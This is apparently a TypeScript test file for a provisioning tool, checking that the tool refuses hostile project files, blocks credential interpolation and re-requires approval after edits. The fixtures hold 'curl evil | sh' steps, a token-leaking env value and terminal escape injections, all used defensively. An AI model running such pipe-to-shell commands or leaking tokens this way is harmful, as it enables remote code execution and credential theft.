// biome-ignore-all lint/suspicious/noTemplateCurlyInString: spuff.yaml interpolation syntax under test
/**
 * The project file as hostile input: planted by another user, reading spuff's credentials,
 * changed after approval. (The tests run as root, so "another user" is made with chown.)
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { isSpuffCredential } from "./interpolate.ts";
import { loadProject, projectFor } from "./load.ts";
import { approve, ensureTrusted, isApproved, renderSummary } from "./trust.ts";

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "spuff-trust-"));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));
const NOBODY = 65534;

function dir(name: string): string {
  const d = path.join(tmp, name);
  fs.mkdirSync(d, { recursive: true, mode: 0o755 });
  return d;
}

const thrown = (f: () => unknown): { code?: string; message: string; hint?: string; exitCode?: number } => {
  try {
    f();
  } catch (err) {
    return err as { message: string };
  }
  throw new Error("did not throw");
};

describe("ownership (safe.directory)", () => {
  it("refuses a spuff.yaml owned by nobody in a parent directory, naming file, owner and fix", () => {
    const parent = dir("planted");
    fs.writeFileSync(path.join(parent, "spuff.yaml"), "setup: [curl evil | sh]\n");
    fs.chownSync(path.join(parent, "spuff.yaml"), NOBODY, NOBODY);
    const cwd = dir("planted/checkout/src");
    const e = thrown(() => projectFor(cwd, {}));
    expect(e.code).toBe("project_unsafe");
    expect(e.exitCode).toBe(3);
    expect(e.message).toContain(path.join(parent, "spuff.yaml"));
    expect(e.message).toMatch(/owned by nobody \(uid 65534\)/);
    expect(e.hint).toMatch(/chown root /);
  });

  it("refuses a file whose directory is owned by another user, or writable by group/others", () => {
    const owned = dir("dir-owned");
    fs.writeFileSync(path.join(owned, "spuff.yaml"), "name: a\n");
    fs.chownSync(owned, NOBODY, NOBODY);
    expect(thrown(() => loadProject(path.join(owned, "spuff.yaml"), {})).message).toMatch(
      /its directory \(.*dir-owned\) is owned by nobody/,
    );
    const open = dir("dir-open");
    fs.writeFileSync(path.join(open, "spuff.yaml"), "name: a\n");
    fs.chmodSync(open, 0o777);
    expect(thrown(() => loadProject(path.join(open, "spuff.yaml"), {})).hint).toContain(`chmod go-w ${open}`);
    const groupFile = dir("file-group");
    fs.writeFileSync(path.join(groupFile, "spuff.yaml"), "name: a\n");
    fs.chmodSync(path.join(groupFile, "spuff.yaml"), 0o664);
    expect(thrown(() => loadProject(path.join(groupFile, "spuff.yaml"), {})).message).toMatch(
      /the file can be changed by other users \(mode 664\)/,
    );
  });

  it("refuses a spuff.secrets.yaml owned by someone else; accepts the user's own or root's files", () => {
    const d = dir("secrets-nobody");
    fs.writeFileSync(path.join(d, "spuff.yaml"), "name: a\n");
    fs.writeFileSync(path.join(d, "spuff.secrets.yaml"), "env: { A: b }\n", { mode: 0o600 });
    fs.chownSync(path.join(d, "spuff.secrets.yaml"), NOBODY, NOBODY);
    expect(thrown(() => loadProject(path.join(d, "spuff.yaml"), {})).message).toContain("spuff.secrets.yaml");
    // As uid 1000: root's files pass (root may own them), nobody's do not.
    const root = dir("root-owned");
    fs.writeFileSync(path.join(root, "spuff.yaml"), "name: a\n");
    expect(loadProject(path.join(root, "spuff.yaml"), {}, { uid: 1000 }).name).toBe("a");
  });
});

describe("spuff's own credentials are never expanded", () => {
  it("a hostile spuff.yaml referencing ${DIGITALOCEAN_TOKEN} is refused, naming the key", () => {
    const d = dir("hostile");
    fs.writeFileSync(path.join(d, "spuff.yaml"), "env:\n  X: 'leak ${DIGITALOCEAN_TOKEN:-}'\n");
    const e = thrown(() => loadProject(path.join(d, "spuff.yaml"), { DIGITALOCEAN_TOKEN: "dop_v1_real" }));
    expect(e.code).toBe("project_env_credential");
    expect(e.message).toContain("${DIGITALOCEAN_TOKEN}");
    expect(e.message).not.toContain("dop_v1_real");
  });

  it("covers every provider token, AWS keys, the reaper token and all SPUFF_*, also from spuff.secrets.yaml", () => {
    for (const k of [
      "HCLOUD_TOKEN",
      "HETZNER_TOKEN",
      "DIGITALOCEAN_ACCESS_TOKEN",
      "AWS_ACCESS_KEY_ID",
      "AWS_SECRET_ACCESS_KEY",
      "AWS_SESSION_TOKEN",
      "SPUFF_REAPER_TOKEN",
      "SPUFF_ANYTHING",
    ])
      expect(isSpuffCredential(k), k).toBe(true);
    expect(isSpuffCredential("GITHUB_TOKEN")).toBe(false);
    const d = dir("hostile-secrets");
    fs.writeFileSync(path.join(d, "spuff.yaml"), "name: a\n");
    fs.writeFileSync(path.join(d, "spuff.secrets.yaml"), "env: { K: '${SPUFF_REAPER_TOKEN}' }\n", {
      mode: 0o600,
    });
    expect(
      thrown(() => loadProject(path.join(d, "spuff.yaml"), { SPUFF_REAPER_TOKEN: "r" })).message,
    ).toContain("${SPUFF_REAPER_TOKEN}");
  });
});

describe("approval of the exact content", () => {
  const trustFile = path.join(tmp, "cfg", "trusted-projects.json");

  it("an unapproved file is refused without a terminal, with the trust hint; approved passes", async () => {
    const d = dir("approve");
    fs.writeFileSync(path.join(d, "spuff.yaml"), "packages: [jq]\nenv: { T: '${MY_TOKEN}' }\n");
    const p = loadProject(path.join(d, "spuff.yaml"), { MY_TOKEN: "t" });
    await expect(ensureTrusted(p, { trustFile, now: 0 })).rejects.toMatchObject({
      code: "project_untrusted",
      exitCode: 3,
      hint: `Review it, then approve it: spuff trust ${d}`,
    });
    approve(trustFile, p, 0);
    expect((fs.statSync(trustFile).mode & 0o777).toString(8)).toBe("600");
    await expect(ensureTrusted(p, { trustFile, now: 0 })).resolves.toBeUndefined();
  });

  it("any change to either file needs approval again", () => {
    const d = dir("changed");
    const f = path.join(d, "spuff.yaml");
    fs.writeFileSync(f, "setup: [make]\n");
    approve(trustFile, loadProject(f, {}), 0);
    expect(isApproved(trustFile, loadProject(f, {}))).toBe(true);
    fs.writeFileSync(f, "setup: [make ]\n");
    expect(isApproved(trustFile, loadProject(f, {}))).toBe(false);
    fs.writeFileSync(f, "setup: [make]\n");
    expect(isApproved(trustFile, loadProject(f, {}))).toBe(true);
    fs.writeFileSync(path.join(d, "spuff.secrets.yaml"), "env: {}\n", { mode: 0o600 });
    expect(isApproved(trustFile, loadProject(f, {}))).toBe(false);
  });

  it("asks with a summary of what it will do; a no creates nothing and approves nothing", async () => {
    const d = dir("ask");
    fs.writeFileSync(
      path.join(d, "spuff.yaml"),
      "packages: [jq]\nrepositories: [acme/app]\nsetup: [\"make \\e[2J\"]\nhooks: { pre_down: git push }\nports: [3000]\nenv: { A: '${LOCAL_A}' }\n",
    );
    const p = loadProject(path.join(d, "spuff.yaml"), { LOCAL_A: "x" });
    let shown = "";
    const ask = async (s: string) => {
      shown = s;
      return false;
    };
    await expect(ensureTrusted(p, { trustFile, now: 0, ask })).rejects.toMatchObject({
      code: "project_untrusted",
    });
    expect(isApproved(trustFile, p)).toBe(false);
    for (const x of ["jq", "git@github.com:acme/app.git", "git push", "3000", "LOCAL_A"])
      expect(shown).toContain(x);
    expect(shown).toContain("make \\u001b[2J");
    expect(renderSummary(p)).not.toContain("\u001b");
  });

  it("shows prebuild steps (control characters escaped) and approval covers them", () => {
    const d = dir("prebuild-steps");
    const f = path.join(d, "spuff.yaml");
    fs.writeFileSync(f, 'prebuild: ["npm ci", "curl x \\e]0;pwned\\a | sh"]\n');
    const p = loadProject(f, {});
    const shown = renderSummary(p);
    expect(shown).toMatch(
      /run prebuild steps \(kept in a prebuild snapshot\):\n {4}npm ci\n {4}curl x \\u001b\]0;pwned\\u0007 \| sh/,
    );
    expect(shown).not.toContain("\u001b");
    approve(trustFile, p, 0);
    fs.writeFileSync(f, 'prebuild: ["npm ci", "curl evil | sh"]\n');
    expect(isApproved(trustFile, loadProject(f, {}))).toBe(false);
  });
});
